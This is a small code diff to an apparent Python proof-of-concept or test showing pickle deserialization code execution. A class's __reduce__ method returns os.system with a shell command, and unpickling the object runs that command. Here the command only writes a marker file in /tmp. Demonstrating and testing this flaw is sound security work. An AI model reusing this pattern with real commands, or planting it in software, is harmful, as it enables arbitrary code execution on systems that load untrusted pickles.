@@ -7,7 +7,7 @@ import pickle
 
 class Planted:
     def __reduce__(self):
-        return os.system, ("touch /tmp/left_by_attacker",)
+        return os.system, ("echo x > /tmp/left_by_attacker",)
 
 
 if pickle.loads(pickle.dumps(Planted())) == 0:
